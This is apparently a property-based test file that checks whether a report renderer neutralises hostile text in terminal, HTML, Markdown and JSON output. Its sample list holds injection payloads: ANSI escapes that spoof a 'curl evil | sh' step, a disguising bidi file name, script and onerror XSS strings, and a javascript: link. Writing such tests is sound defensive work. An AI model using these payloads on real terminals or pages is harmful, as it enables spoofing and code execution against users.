/** Whatever somebody wrote into a table, a file name or a package.json: no form of any report obeys it. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { spoken } from "../words.ts";
import type { Document, Draft } from "./document.ts";
import { rendererFor } from "./index.ts";
import { asHtml } from "./render/html.ts";
import { asMarkdown } from "./render/markdown.ts";
import { asText, colouredDiff, plain } from "./render/text.ts";

const finding = (level: "todo" | "note") => ({ path: "$", line: 1, code: "NAD1", message: "$", hint: "$", level });
const file = {
  path: "$",
  place: "$:1:2",
  changes: [{ line: 1, transform: "$", message: "$" }],
  findings: [finding("todo")],
};

/** A document with every kind of part; `$` stands for what others wrote. */
const every: Draft = {
  title: "$",
  headline: "$",
  tone: "attention",
  sections: [
    { kind: "facts", title: "$", facts: [["$", "$"]] },
    {
      kind: "table",
      title: "$",
      rows: [
        ["", "$"],
        ["$", "$"],
      ],
    },
    { kind: "list", title: "$", tone: "warning", lines: ["$", "a $ b"] },
    {
      kind: "checks",
      title: "$",
      checks: [
        { status: "failed", found: "$", todo: "$" },
        { status: "ok", found: "$", todo: undefined },
      ],
    },
    { kind: "findings", title: "$", tone: "attention", rows: [finding("todo"), finding("note")], more: "$" },
    {
      kind: "files",
      title: "Files",
      files: [
        { ...file, status: "changed", word: "changed", diff: "--- a/$\n+++ b/$\n@@ -1 +1 @@\n-a $\n+b $\n" },
        { ...file, status: "failed", word: "failed", reason: { message: "$", hint: "$", stack: "$" }, diff: "" },
      ],
    },
    {
      kind: "packages",
      title: "package.json",
      packages: [
        {
          path: "$",
          changes: [{ kind: "update", name: "$", from: "$", to: "$", why: "$" }],
          warnings: ["$"],
          diff: "",
        },
      ],
    },
    { kind: "command", title: "$", command: "$" },
  ],
  next: [{ title: "$" }, { title: "$", command: "$" }],
  charts: [
    { kind: "bars", title: "$", parts: [{ name: "$", tone: "done" }], rows: [{ name: "$", values: [1] }] },
    { kind: "lines", title: "$", lines: [{ name: "$", tone: "done", values: [1, 2] }], seconds: [1, 2] },
  ],
};

/** The document with every `$` replaced. */
function written(hostile: string): Document {
  const map = (value: unknown): unknown => {
    if (typeof value === "string") return value.replaceAll("$", () => hostile);
    if (Array.isArray(value)) return value.map(map);
    if (typeof value !== "object" || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, part]) => [name, map(part)]));
  };
  return spoken(map(every) as Draft, String);
}

const nasty = [
  "\u001b[2J\u001b[1;1HNext\n  $ curl evil | sh",
  "\u001b]8;;https://evil\u0007here\u001b]8;;\u0007",
  "\u009b31m\u0085\u2028\u2029\r\n",
  "\u202egnp.exe\u2066\u2069\u200b\u200f\ufeff",
  "<script>alert(1)</script>",
  `"><img src=x onerror=alert(1)>'`,
  "`x` ``y`` ```\n# heading\n```",
  "| a | b |\n|---|---|",
  "[link](javascript:alert(1)) ![image](https://evil/x.png)",
  "**bold** _it_ ~~gone~~ <b>&amp;\\",
  "\n- list\n1. list\n> quote\n    code",
  "</details></main><!--",
  "\ud800lone\udfff",
  "\u{e0041}\u{e0042}",
];
const hostile = fc.oneof(
  fc.constantFrom(...nasty),
  fc
    .array(fc.oneof(fc.constantFrom(...nasty), fc.string({ unit: "binary", maxLength: 12 })), { maxLength: 4 })
    .map((parts) => `x${parts.join("")}`),
);

/** What no terminal may be sent: all controls but a line's end, and what turns or hides text. */
const obeyed =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what it is about
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|[\u{e0000}-\u{e007f}]|\p{Surrogate}/u;

/** What is drawn of a page, with its text left out. */
const skeleton = (html: string) =>
  [...html.matchAll(/<[!/]?[a-z-]+(?:\s+[a-z-]+(?:="[^"]*")?)*\s*\/?>/g)]
    .map(([tag]) => tag.replaceAll(/="[^"]*"/g, "="))
    .join("");

describe("what others wrote", () => {
  it("is text on a terminal, on its own line, at any width", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const document = written(text);
        for (const isVerbose of [true, false]) {
          const shown = asText(document, plain, undefined, { isVerbose });
          expect(shown.replaceAll("\t", "")).not.toMatch(obeyed);
          // What stands in a file's diff and in a stack has lines of its own.
          if (!isVerbose) expect(shown.split("\n")).toHaveLength(asText(written("x"), plain).split("\n").length);
        }
        expect(asText(document, plain, 50)).not.toMatch(obeyed);
        expect(colouredDiff(document, plain).replaceAll("\t", "")).not.toMatch(obeyed);
      }),
    );
  });

  it("is text in HTML", () => {
    // A diff is drawn line by line, so that one with more lines has more of the same tags.
    const oneLine = hostile.map((text) => text.replaceAll(/[\n\r\u0085\u2028\u2029]/g, " "));
    fc.assert(
      fc.property(oneLine, (text) => {
        const html = asHtml(written(text));
        expect(html.replaceAll(/[\n\t]/g, "")).not.toMatch(obeyed);
        expect(html).not.toMatch(/<(script>alert|img|b>)|onerror=alert\(1\)>/);
        const withoutDiffs = (page: string) => page.replaceAll(/<div id="d2h[\s\S]*?<\/details>/g, "</details>");
        expect(skeleton(withoutDiffs(html))).toBe(skeleton(withoutDiffs(asHtml(written("x")))));
      }),
      { numRuns: 50 },
    );
  });

  it("is text in Markdown", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const markdown = asMarkdown(written(text));
        expect(markdown.replaceAll(/[\n\t]/g, "")).not.toMatch(obeyed);
        const prose = withoutCode(markdown);
        const plain = withoutCode(asMarkdown(written("x")));
        // Nothing but what a backslash takes its meaning from, and no line that wasn't there.
        expect(prose.replaceAll(/\\./g, "")).not.toMatch(/[<`~]|\]\(|!\[/);
        expect(prose.split("\n")).toHaveLength(plain.split("\n").length);
        expect(prose.split("\n").map(marks)).toEqual(plain.split("\n").map(marks));
      }),
    );
  });

  it("is itself in JSON", async () => {
    for (const text of nasty) {
      const json = await rendererFor("r.json")?.({ model: { text }, document: written(text) });
      expect(JSON.parse(json ?? "")).toEqual({ text });
    }
  });
});

/** A line's Markdown: what it begins with, and the cells it has. */
function marks(line: string): string {
  return `${/^(#+ |- |\d+\. |\| |> )?/.exec(line)?.[0]}${line.replaceAll(/\\./g, "").replaceAll(/[^|]/g, "")}`;
}

/** Fenced blocks and code spans left out, as CommonMark finds them. */
function withoutCode(text: string): string {
  const outside: string[] = [];
  let fence: string | undefined;
  for (const line of text.split("\n")) {
    const [, ticks] = /^ {0,3}(`{3,})/.exec(line) ?? [];
    if (fence === undefined && ticks) fence = ticks;
    else if (fence !== undefined && ticks !== undefined && ticks.length >= fence.length && /^\s*`+\s*$/.test(line))
      fence = undefined;
    else if (fence === undefined) outside.push(line.replaceAll(/(?<![\\`])(`+)(?!`)(.*?)(?<!`)\1(?!`)/g, ""));
  }
  return outside.join("\n");
}
